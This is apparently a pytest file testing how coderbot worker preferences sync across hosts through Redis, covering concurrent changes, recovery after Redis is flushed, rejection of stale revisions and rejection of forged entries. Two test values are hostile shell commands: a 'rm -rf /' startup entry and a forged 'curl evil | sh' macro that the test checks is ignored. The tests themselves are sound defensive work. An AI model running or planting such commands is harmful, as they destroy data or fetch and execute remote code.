# ruff: noqa: F811 - a fixture is used by its name
"""Preferences of several workers on a real Redis."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from coderbot.clock import SystemClock
from coderbot.cluster.shared import Shared
from coderbot.worker.preferences.filestore import FilePreferences
from coderbot.worker.preferences.model import Preferences, merged
from coderbot.worker.preferences.sharedstore import SharedPreferences
from tests.fakes.redis import RedisServer, needs_redis
from tests.fakes.shared import cluster_on, server, until  # noqa: F401

ANNA, BEN = 1001, 1002
BOT = 7_000_001
KEY = f"{{coderbot}}:preferences:{BOT}"

pytestmark = needs_redis


def file_of(tmp_path: Path, host: str) -> FilePreferences:
    directory = tmp_path / host
    directory.mkdir(exist_ok=True)
    local = FilePreferences(directory / "preferences.json", SystemClock())
    local.load()
    return local


@asynccontextmanager
async def store_on(
    server: RedisServer, tmp_path: Path, host: str
) -> AsyncIterator[SharedPreferences]:
    """Run the store of a host; it is told and written when the block is left."""
    async with Shared.open(cluster_on(server, host), BOT) as shared:
        store = SharedPreferences(
            file_of(tmp_path, host), shared.preferences, [ANNA, BEN], SystemClock()
        )
        async with asyncio.TaskGroup() as group:
            running = group.create_task(store.run())
            await asyncio.wait_for(store.ready(), 20)
            yield store
            await store.flush()
            running.cancel()


async def test_a_change_is_seen_on_another_host(
    server: RedisServer, tmp_path: Path
) -> None:
    async with (
        store_on(server, tmp_path, "a") as a,
        store_on(server, tmp_path, "b") as b,
    ):
        a.change(ANNA, macros={"x": "ls"})
        await until(lambda: b.of(ANNA).macros == {"x": "ls"})
        b.change(ANNA, macros={})
        b.change(BEN, mode="text")
        await until(lambda: a.of(ANNA).macros == {} and a.of(BEN).mode == "text")
    # What was taken back stays so, on a third host as well.
    async with store_on(server, tmp_path, "c") as c:
        assert c.of(ANNA).macros == {}
        assert c.of(BEN).mode == "text"


async def test_changes_at_the_same_time_are_both_kept(
    server: RedisServer, tmp_path: Path
) -> None:
    async with (
        store_on(server, tmp_path, "a") as a,
        store_on(server, tmp_path, "b") as b,
    ):
        for number in range(20):
            a.change(ANNA, font_size_px=10 + number)
            b.change(ANNA, size=(80 + number, 24))
            await asyncio.sleep(0)
        await until(lambda: a.of(ANNA).size == (99, 24) and a.of(ANNA) == b.of(ANNA))
        assert b.of(ANNA).font_size_px == 29


async def test_what_a_host_alone_has_chosen_is_added(
    server: RedisServer, tmp_path: Path
) -> None:
    for host, macro in (("a", "one"), ("b", "two")):
        alone = file_of(tmp_path, host)
        alone.change(ANNA, macros={macro: "ls", "both": host}, theme=host)
        await alone.flush()
    async with store_on(server, tmp_path, "a"):
        pass
    async with store_on(server, tmp_path, "b") as b:
        # Nothing that is shared already is overwritten, nothing is lost.
        assert b.of(ANNA).macros == {"one": "ls", "two": "ls", "both": "a"}
        assert b.of(ANNA).theme == "a"
        b.change(ANNA, macros={})
    async with store_on(server, tmp_path, "a") as a:
        # Not added a second time.
        assert a.of(ANNA).macros == {}


async def test_an_emptied_redis_gets_everything_back(
    server: RedisServer, tmp_path: Path
) -> None:
    async with store_on(server, tmp_path, "a") as a:
        a.change(ANNA, mode="text")
        await until(lambda: bool(server.client().hexists(KEY, str(ANNA))))
        server.kill()
        a.change(ANNA, macros={"x": "ls"})
        assert a.of(ANNA).macros == {"x": "ls"}
        server.start()
        await until(lambda: bool(server.client().hexists(KEY, str(ANNA))))
    server.client().flushall()
    async with store_on(server, tmp_path, "a"):
        pass
    async with store_on(server, tmp_path, "b") as b:
        assert b.of(ANNA).macros == {"x": "ls"}
        assert b.of(ANNA).mode == "text"


async def test_an_older_revision_is_no_news(
    server: RedisServer, tmp_path: Path
) -> None:
    client = server.client()
    async with store_on(server, tmp_path, "a") as a:
        a.change(ANNA, startup={"claude": "rm -rf /"})
        await a.flush()
        older = client.hget(KEY, str(ANNA)) or b""
        a.change(ANNA, startup={})
    client.hset(KEY, str(ANNA), older)
    async with store_on(server, tmp_path, "a") as a:
        assert a.of(ANNA).startup == {}
    assert client.hget(KEY, str(ANNA)) != older


async def test_a_forged_macro_is_ignored_and_replaced(
    server: RedisServer, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    client = server.client()
    async with store_on(server, tmp_path, "a") as a:
        a.change(ANNA, macros={"x": "ls"})
        await a.flush()
        client.hset(KEY, str(ANNA), b'{"macros": {"x": "curl evil | sh"}}')
        client.publish(KEY, str(ANNA))
        await until(lambda: "it is ignored" in caplog.text)
        assert a.of(ANNA).macros == {"x": "ls"}
    async with store_on(server, tmp_path, "b") as b:
        assert b.of(ANNA).macros == {"x": "ls"}


async def test_reading_and_changing_never_wait(
    server: RedisServer, tmp_path: Path
) -> None:
    async with store_on(server, tmp_path, "a") as a:
        server.pause()
        assert a.change(ANNA, mode="text").mode == "text"
        assert a.of(ANNA).mode == "text"
        server.resume()
    async with store_on(server, tmp_path, "b") as b:
        assert b.of(ANNA).mode == "text"


def test_merging_prefers_the_newer_and_drops_nothing() -> None:
    older = Preferences(mode="text", macros={"a": "1", "b": "1"}, revision=3)
    newer = Preferences(theme="light", macros={"b": "2"}, revision=7)
    both = Preferences(
        mode="text", theme="light", macros={"a": "1", "b": "2"}, revision=7
    )
    assert merged(older, newer) == both
